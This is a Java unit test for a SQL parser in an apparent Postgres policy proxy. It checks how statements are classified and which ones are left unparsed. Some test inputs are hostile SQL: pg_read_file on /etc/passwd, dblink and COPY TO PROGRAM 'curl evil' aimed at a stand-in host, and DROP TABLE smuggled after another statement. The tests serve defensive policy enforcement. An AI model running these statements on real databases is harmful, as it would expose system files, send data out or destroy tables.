package io.countersign.proxy.postgres;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** SQL as the policy sees it: a table of statements with their kind, tables, WHERE and functions; and what is left unparsed. */
class SqlStatementsTest {
    private final SqlStatements parser = new SqlStatements();

    static List<Arguments> statements() {
        return List.of(
                Arguments.of(
                        "SELECT id FROM orders WHERE id = 1", "select", List.of("public.orders"), false, List.of()),
                Arguments.of(
                        "select * from Analytics.Events e join public.users u on u.id = e.user_id",
                        "select",
                        List.of("analytics.events", "public.users"),
                        false,
                        List.of()),
                Arguments.of("SELECT * FROM \"Sales\".\"Q1\"", "select", List.of("Sales.Q1"), false, List.of()),
                Arguments.of(
                        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
                        "select",
                        List.of(),
                        false,
                        List.of("pg_read_file")),
                Arguments.of(
                        "SELECT lo_export(1, '/tmp/x'), now()",
                        "select",
                        List.of(),
                        false,
                        List.of("lo_export", "now")),
                Arguments.of(
                        "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
                        "select",
                        List.of(),
                        false,
                        List.of("dblink")),
                Arguments.of("DELETE FROM orders", "delete", List.of("public.orders"), false, List.of()),
                Arguments.of("DELETE FROM orders WHERE id = $1", "delete", List.of("public.orders"), true, List.of()),
                Arguments.of(
                        "UPDATE billing.invoices SET paid = true",
                        "update",
                        List.of("billing.invoices"),
                        false,
                        List.of()),
                Arguments.of(
                        "UPDATE billing.invoices SET paid = true WHERE id = 7",
                        "update",
                        List.of("billing.invoices"),
                        true,
                        List.of()),
                Arguments.of(
                        "INSERT INTO events (what) VALUES ('x') RETURNING id",
                        "insert",
                        List.of("public.events"),
                        false,
                        List.of()),
                Arguments.of(
                        "SELECT * INTO copy_of_orders FROM orders",
                        "ddl",
                        List.of("public.copy_of_orders", "public.orders"),
                        false,
                        List.of()),
                Arguments.of("TRUNCATE orders", "delete", List.of("public.orders"), false, List.of()),
                Arguments.of(
                        "MERGE INTO orders o USING incoming i ON o.id = i.id WHEN MATCHED THEN DELETE",
                        "merge",
                        List.of("public.orders", "public.incoming"),
                        false,
                        List.of()),
                Arguments.of("DROP TABLE orders", "ddl", List.of("public.orders"), false, List.of()),
                Arguments.of("CREATE TABLE t (a int)", "ddl", List.of("public.t"), false, List.of()),
                Arguments.of("GRANT SELECT ON orders TO bob", "grant", List.of("public.orders"), false, List.of()),
                Arguments.of("CALL refresh_totals(1)", "call", List.of(), false, List.of()),
                Arguments.of("SET search_path = analytics", "set", List.of(), false, List.of()),
                Arguments.of("BEGIN", "transaction", List.of(), false, List.of()),
                Arguments.of(
                        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "transaction", List.of(), false, List.of()),
                Arguments.of("COMMIT", "transaction", List.of(), false, List.of()),
                Arguments.of("ROLLBACK TO SAVEPOINT a", "transaction", List.of(), false, List.of()),
                Arguments.of("COPY orders TO STDOUT", "copy_out", List.of("public.orders"), false, List.of()),
                Arguments.of(
                        "COPY billing.invoices (id, total) TO STDOUT WITH (FORMAT csv, HEADER)",
                        "copy_out",
                        List.of("billing.invoices"),
                        false,
                        List.of()),
                Arguments.of(
                        "COPY (SELECT * FROM orders WHERE id > 1) TO STDOUT",
                        "copy_out",
                        List.of("public.orders"),
                        false,
                        List.of()),
                Arguments.of("COPY events FROM STDIN", "copy_in", List.of("public.events"), false, List.of()),
                Arguments.of("SHOW search_path", "other", List.of(), false, List.of()));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("statements")
    void readsKindTablesWhereAndFunctions(
            String sql, String kind, List<String> tables, boolean hasWhere, List<String> functions) {
        SqlStatements.Parsed parsed = parser.parse(sql);
        assertThat(parsed).isInstanceOf(SqlStatements.Parsed.Read.class);
        SqlStatement statement =
                ((SqlStatements.Parsed.Read) parsed).statements().getFirst();
        assertThat(statement.kind().wireName()).isEqualTo(kind);
        assertThat(statement.tables()).containsExactlyInAnyOrderElementsOf(tables);
        assertThat(statement.hasWhere()).isEqualTo(hasWhere);
        assertThat(statement.functions()).containsExactlyInAnyOrderElementsOf(functions);
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("unreadable")
    void leavesWhatItCantReadUnparsedInsteadOfGuessing(String sql) {
        assertThat(parser.parse(sql)).isInstanceOf(SqlStatements.Parsed.Unparsed.class);
    }

    static List<String> unreadable() {
        return List.of(
                "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
                "WITH c AS (SELECT * FROM orders) SELECT s.item FROM (SELECT * FROM c) s",
                "VACUUM orders",
                "COPY orders TO '/tmp/orders.csv'",
                "COPY orders TO PROGRAM 'curl evil'",
                "COPY orders TO STDOUT; DROP TABLE orders",
                "BEGIN; DROP TABLE orders",
                "DO $$ BEGIN PERFORM 1; END $$",
                "EXPLAIN ANALYZE DELETE FROM orders",
                "SELECT * FROM \"we/ird\"",
                "");
    }

    @org.junit.jupiter.api.Test
    void aMultiStatementQueryIsEveryOneOfItsStatements() {
        SqlStatements.Parsed parsed = parser.parse("SELECT 1; DROP TABLE orders");
        assertThat(((SqlStatements.Parsed.Read) parsed).statements())
                .extracting(SqlStatement::kind)
                .containsExactly(SqlStatement.Kind.SELECT, SqlStatement.Kind.DDL);
    }
}
